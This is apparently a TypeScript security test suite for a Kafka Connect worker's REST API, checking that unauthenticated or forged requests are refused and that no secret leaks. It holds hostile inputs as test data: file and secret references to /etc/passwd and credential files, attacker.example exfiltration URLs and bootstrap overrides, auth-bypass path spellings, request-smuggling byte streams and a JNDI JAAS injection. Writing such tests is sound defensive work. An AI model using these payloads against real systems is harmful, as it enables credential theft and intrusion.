import { expect } from "chai";
import { eventually } from "./harness/eventually";
import { skipUnlessOwn } from "./harness/own-server";
import type { Pipeline } from "./harness/pipeline";
import { rawExchange, rawRequest, type RawAnswer, type RawRequest } from "./harness/raw-http";
import { sharedPipeline } from "./harness/shared-pipeline";
import { identityOf } from "./harness/stack-fetch";
import type { TlsIdentity } from "../project/https-request";

const PLUGIN = "ElasticsearchSinkConnector";
const VALIDATE = `/connector-plugins/${PLUGIN}/config/validate`;
const JSON_TYPE = { "content-type": "application/json" };

/** What would name a secret, if the worker resolved it. */
const REFERENCES = [
  "${file:/etc/passwd:root}",
  "${file:/etc/shopstream/connect-secrets.properties:mysql.password}",
  "${directory:/etc/shopstream:connect-credential}",
  "${env:PATH}",
  "${secrets:mysql.password}",
  "${secrets:/etc/shopstream/connect-credential:admin}",
];
const configurationWith = (reference: string): Record<string, string> => ({
  name: "attack",
  "connector.class": PLUGIN,
  topics: reference,
  "connection.url": `http://attacker.example/${reference}`,
});
const BODY = JSON.stringify(configurationWith("${secrets:mysql.password}"));

/** The same resource, spelled in other ways, for a guard that looks at paths. */
const spellingsOf = (path: string): string[] => [
  path,
  `${path}/`,
  `/${path}`,
  path.replaceAll("/", "//"),
  `${path}?/readyz`,
  `${path};/readyz`,
  `${path}%00`,
  path.replace(/^\/c/, "/%63"),
  path.replace(/config/, "%63onfig"),
  path.replace(/config/, "CONFIG"),
  path.replace(/\/config/, "%2Fconfig"),
  path.replace(/\/config/, "/./config"),
  path.replace(/\/config/, ";a=b/config"),
  path.replace(/^/, "/."),
  path.replace(/^/, "/%2e"),
  path.replace(/^/, "/connectors/.."),
  path.replace(/^/, "/connectors/%2e%2e"),
  path.replace(/^/, "/readyz/..;"),
  path.replace(/^/, "/metrics/%2e%2e%2f"),
  path.replace(/^/, "http://127.0.0.1/readyz/.."),
  path.replace(/^/, "http://127.0.0.1"),
];

const basic = (credential: string): string => `Basic ${Buffer.from(credential).toString("base64")}`;

describe("Kafka Connect", () => {
  let pipeline: Pipeline;
  let url: string;
  let tls: TlsIdentity | undefined;
  let connector: string;
  let admin: { readonly authorization: string };
  /** Everything that no answer may hold. */
  let secrets: string[];
  let declared: string;

  const configurations = async (): Promise<string> => {
    const names = (await pipeline.connect.names()).sort();
    return JSON.stringify(await Promise.all(names.map((name) => pipeline.connect.configuration(name))));
  };

  /** What the worker resolves; unknown to the stack where the worker is somebody else's. */
  const workerPasswords = async (): Promise<string[]> => {
    if (!(await pipeline.containers.has("connect"))) return [];
    const worker = await pipeline.containers.get("connect");
    const properties = await worker.run(["cat", "/etc/shopstream/connect-secrets.properties"]);
    const passwords = properties.split("\n").flatMap((line) => /(?<==).+/.exec(line)?.[0] ?? []);
    expect(passwords).to.have.lengthOf(3);
    return passwords;
  };

  before(async () => {
    pipeline = await sharedPipeline();
    url = pipeline.stack.connectUrl;
    tls = identityOf(pipeline.stack);
    connector = (await pipeline.connect.names())[0]!;
    admin = { authorization: basic(`${pipeline.stack.connectAdminUser}:${pipeline.stack.connectAdminPassword}`) };
    const passwords = await workerPasswords();
    secrets = [...passwords, pipeline.stack.connectAdminPassword, "root:x:", "/usr/bin"];
    declared = await configurations();
  });

  after(async () => {
    expect(await configurations()).to.equal(declared);
  });

  const expectNoSecret = (text: string, what: string): void => {
    for (const secret of secrets) expect(text.includes(secret), `${what}: ${text.slice(0, 500)}`).to.equal(false);
  };
  const ask = async (request: RawRequest): Promise<RawAnswer> => {
    const answer = await rawRequest(url, request, tls);
    expectNoSecret(answer.body, `${request.method} ${request.path}`);
    return answer;
  };
  const expectRefused = async (request: RawRequest): Promise<void> => {
    const { status, body } = await ask(request);
    expect(status, `${request.method} ${request.path}: ${body}`).to.be.oneOf([400, 401, 404, 405, 501, 505]);
  };

  describe("without the credential", () => {
    it("resolves no reference", async () => {
      for (const reference of REFERENCES) {
        const body = JSON.stringify(configurationWith(reference));
        expect((await ask({ method: "PUT", path: VALIDATE, headers: JSON_TYPE, body })).status).to.equal(401);
      }
    });

    it("resolves none however its path is written", async () => {
      for (const path of spellingsOf(VALIDATE))
        await expectRefused({ method: "PUT", path, headers: JSON_TYPE, body: BODY });
    });

    it("writes no configuration, however the path is written", async () => {
      for (const path of spellingsOf(`/connectors/${connector}/config`)) {
        await expectRefused({ method: "PUT", path, headers: JSON_TYPE, body: BODY });
      }
      for (const path of [
        "/connectors",
        "/connectors/",
        "//connectors",
        "/%63onnectors",
        "/connectors?expand=status",
      ]) {
        const body = JSON.stringify({ name: "attack", config: configurationWith("x") });
        await expectRefused({ method: "POST", path, headers: JSON_TYPE, body });
      }
      for (const path of [`/connectors/${connector}`, `/connectors/${connector}/`, `/connectors//${connector}`]) {
        await expectRefused({ method: "DELETE", path });
      }
      expect(await configurations()).to.equal(declared);
    });

    it("is closed to other methods and to headers that name another method or path", async () => {
      for (const method of ["HEAD", "OPTIONS", "TRACE", "PATCH", "POST", "GET", "put", "PROPFIND"]) {
        for (const path of [VALIDATE, `/connectors/${connector}/config`]) {
          if (path !== VALIDATE && ["GET", "HEAD"].includes(method)) continue;
          await expectRefused({ method, path, headers: JSON_TYPE, ...(method === "POST" && { body: BODY }) });
        }
      }
      for (const headers of [
        { "x-http-method-override": "PUT" },
        { "x-original-url": VALIDATE, "x-rewrite-url": VALIDATE },
      ]) {
        const { status, body } = await ask({ method: "GET", path: "/connectors", headers });
        expect({ status, names: JSON.parse(body) as unknown }).to.deep.equal({
          status: 200,
          names: await pipeline.connect.names(),
        });
      }
      for (const from of ["127.0.0.1", "connect"]) {
        const headers = { ...JSON_TYPE, "x-forwarded-for": from, forwarded: `for=${from}`, host: from };
        await expectRefused({ method: "PUT", path: VALIDATE, headers, body: BODY });
      }
    });

    it("shows neither plugins nor loggers nor the tasks' whole configurations", async () => {
      const requests = [
        "GET /connector-plugins",
        `GET /connector-plugins/${PLUGIN}/config`,
        "GET /admin/loggers",
        "GET /admin/loggers/root",
        "PUT /admin/loggers/root",
        `GET /connectors/${connector}/tasks-config`,
        `PUT /connectors/${connector}/topics/reset`,
      ];
      for (const line of requests) {
        const [method = "", path = ""] = line.split(" ");
        const body = method === "PUT" ? JSON.stringify({ level: "TRACE" }) : undefined;
        const { status } = await ask({ method, path, headers: JSON_TYPE, ...(body && { body }) });
        expect(status, line).to.equal(401);
      }
    });

    it("refuses a wrong credential", async () => {
      const password = pipeline.stack.connectAdminPassword;
      const wrong = [
        basic("admin:"),
        basic("admin:admin"),
        basic(`admin:${password.slice(0, -1)}`),
        basic(`admin:${password}x`),
        basic(`admin:${password}\0`),
        basic(`elastic:${password}`),
        basic(`:${password}`),
        basic(password),
        `Bearer ${password}`,
        `Basic admin:${password}`,
        "Basic !!!",
        "Basic",
      ];
      for (const authorization of wrong) {
        const headers = { ...JSON_TYPE, authorization };
        expect((await ask({ method: "PUT", path: VALIDATE, headers, body: BODY })).status, authorization).to.equal(401);
      }
      const twice = { ...JSON_TYPE, authorization: [basic("admin:admin"), admin.authorization] };
      await expectRefused({ method: "PUT", path: VALIDATE, headers: twice, body: BODY });
    });

    it("takes no order from another worker whose signature is missing or wrong", async () => {
      const tasks = (await ask({ method: "GET", path: `/connectors/${connector}/tasks` })).body;
      const signatures = [
        {},
        { "x-connect-authorization": "AAAA", "x-connect-request-signature-algorithm": "HmacSHA256" },
      ];
      for (const signature of signatures) {
        const headers = { ...JSON_TYPE, ...signature };
        for (const line of [`POST /connectors/${connector}/tasks`, `PUT /connectors/${connector}/fence`]) {
          const [method = "", path = ""] = line.split(" ");
          const { status, body } = await ask({ method, path, headers, body: "[]" });
          expect(status, `${line}: ${body}`).to.be.within(400, 403);
        }
      }
      expect((await ask({ method: "GET", path: `/connectors/${connector}/tasks` })).body).to.equal(tasks);
    });

    it("answers each request of a connection by itself, and none that is hidden in another", async () => {
      const hidden = [
        `PUT ${VALIDATE} HTTP/1.1`,
        "Host: connect",
        "Content-Type: application/json",
        `Content-Length: ${BODY.length}`,
        "Connection: close",
        "",
        BODY,
      ].join("\r\n");
      const first = (...headers: string[]) =>
        ["POST /connectors/none/restart HTTP/1.1", "Host: connect", ...headers, "", ""].join("\r\n");
      const streams = {
        "one after another": `GET /connectors HTTP/1.1\r\nHost: connect\r\n\r\n${hidden}`,
        "after a signed-in one": `GET /connector-plugins HTTP/1.1\r\nHost: connect\r\nAuthorization: ${admin.authorization}\r\n\r\n${hidden}`,
        "Content-Length and Transfer-Encoding": `${first("Content-Length: 5", "Transfer-Encoding: chunked")}0\r\n\r\n${hidden}`,
        "Transfer-Encoding and Content-Length": `${first("Transfer-Encoding: chunked", `Content-Length: ${hidden.length}`)}0\r\n\r\n${hidden}`,
        "two lengths": `${first("Content-Length: 0", `Content-Length: ${hidden.length}`)}${hidden}`,
        "an obscured encoding": `${first("Transfer-Encoding : chunked", "Content-Length: 0")}${hidden}`,
        "an unknown encoding": `${first("Transfer-Encoding: xchunked")}${hidden}`,
        "a bare line feed": `${first("X: y\nContent-Length: 0")}${hidden}`,
        "a request line in a header": first(`X: y\r\n\r\n${hidden}`),
        "HTTP/1.0": `GET /connectors HTTP/1.0\r\nConnection: keep-alive\r\n\r\n${hidden}`,
        "HTTP/0.9": `PUT ${VALIDATE}\r\n\r\n`,
      };
      for (const [name, bytes] of Object.entries(streams)) {
        const received = await rawExchange(url, bytes, tls);
        expectNoSecret(received, name);
        expect(received, name).to.match(/^HTTP\/1\.1 \d{3} /);
        // The worker says how many errors a configuration has; to us it must say nothing about it.
        expect(received, name).to.not.contain("error_count");
      }
    });

    it("refuses what is too long, and goes on", async () => {
      const long = "a".repeat(100_000);
      const requests: RawRequest[] = [
        { method: "GET", path: `/connectors/${long}` },
        { method: "PUT", path: VALIDATE, headers: { ...JSON_TYPE, authorization: `Basic ${long}` }, body: BODY },
      ];
      for (const request of requests) expect((await ask(request)).status).to.be.oneOf([400, 401, 404, 414, 431]);
      const body = JSON.stringify(configurationWith(long.repeat(20)));
      expect((await ask({ method: "PUT", path: VALIDATE, headers: JSON_TYPE, body })).status).to.equal(401);
      expect((await ask({ method: "GET", path: "/connectors" })).status).to.equal(200);
    });

    it("shows what operators look at, with references in place of secrets", async () => {
      for (const name of await pipeline.connect.names()) {
        for (const path of ["", "/config", "/status", "/tasks", "/tasks/0/status", "/topics"]) {
          const { status, body } = await ask({ method: "GET", path: `/connectors/${name}${path}` });
          expect(status, path).to.equal(200);
          if (["", "/config", "/tasks"].includes(path))
            expect(body).to.match(/"connection.password":"\$\{secrets:[^"]+\}"/);
        }
      }
      for (const path of ["/", "/metrics", "/connectors", "/connectors?expand=status&expand=info"]) {
        expect((await ask({ method: "GET", path })).status, path).to.equal(200);
      }
      expect((await ask({ method: "GET", path: "/readyz" })).status).to.be.oneOf([200, 503]);
    });

    it("lets operators pause, resume and restart, but not pages of a browser", async () => {
      const requests: RawRequest[] = [
        { method: "PUT", path: `/connectors/${connector}/pause` },
        { method: "PUT", path: `/connectors/${connector}/resume` },
        { method: "POST", path: `/connectors/${connector}/restart?includeTasks=true` },
        { method: "POST", path: `/connectors/${connector}/tasks/0/restart` },
      ];
      for (const request of requests) {
        expect((await ask({ ...request, headers: { origin: "http://127.0.0.1:8085" } })).status).to.equal(401);
        await eventually(`${request.method} ${request.path} is taken`, async () => {
          const { status, body } = await ask(request);
          // 409: the worker's group is rebalancing; 404: the task has not started again yet.
          if (status < 200 || status >= 300) throw new Error(`${status}: ${body}`);
        });
      }
      await eventually("every connector runs", async () => expect(await pipeline.connect.notRunning()).to.equal(null));
    });
  });

  describe("with the credential", () => {
    const validate = async (configuration: Readonly<Record<string, string>>) => {
      const headers = { ...JSON_TYPE, ...admin };
      return rawRequest(url, { method: "PUT", path: VALIDATE, headers, body: JSON.stringify(configuration) }, tls);
    };

    it("validates what the sinks have", async () => {
      for (const name of await pipeline.connect.names()) {
        const configuration = await pipeline.connect.configuration(name);
        const path = `/connector-plugins/${configuration["connector.class"]!}/config/validate`;
        const headers = { ...JSON_TYPE, ...admin };
        const request = { method: "PUT", path, headers, body: JSON.stringify(configuration) };
        const { status, body } = await rawRequest(url, request, tls);
        expect(status, body).to.equal(200);
        expect(JSON.parse(body), body).to.include({ error_count: 0 });
      }
    });

    it("reads no file, no directory, no variable and no secret of its own", async () => {
      for (const reference of REFERENCES.filter((name) => name !== "${secrets:mysql.password}")) {
        const { body } = await validate(configurationWith(reference));
        expectNoSecret(body, reference);
      }
    });

    it("lets a connector set what the sinks need of its Kafka clients, and nothing else", async () => {
      const overrides = {
        "consumer.override.bootstrap.servers": "attacker.example:9092",
        "consumer.override.isolation.level": "read_uncommitted",
        "consumer.override.sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required;",
        "consumer.override.group.id": "order-consumer",
        "producer.override.bootstrap.servers": "attacker.example:9092",
        "admin.override.bootstrap.servers": "attacker.example:9092",
      };
      const sink = await pipeline.connect.configuration(connector);
      const path = `/connector-plugins/${sink["connector.class"]!}/config/validate`;
      const headers = { ...JSON_TYPE, ...admin };
      const asked = JSON.stringify({ ...sink, ...overrides });
      const { status, body } = await rawRequest(url, { method: "PUT", path, headers, body: asked }, tls);
      expect(status).to.equal(200);
      const { configs } = JSON.parse(body) as { configs: { value: { name: string; errors: string[] } }[] };
      const refused = configs.filter(({ value }) =>
        value.errors.some((error) => error.startsWith("This worker lets no")),
      );
      expect(refused.map(({ value }) => value.name)).to.have.members(Object.keys(overrides));
    });
  });

  it("has no secret among what docker inspect shows, nor in its log", async function () {
    await skipUnlessOwn(this, pipeline, "connect");
    const worker = await pipeline.containers.get("connect");
    const { Config } = await worker.inspect();
    const passwords = secrets.filter((secret) => secret !== "/usr/bin");
    const shown = JSON.stringify(Config) + (await worker.printedSince(new Date(Date.now() - 10 * 60_000)));
    for (const secret of passwords) expect(shown.includes(secret)).to.equal(false);
  });
});
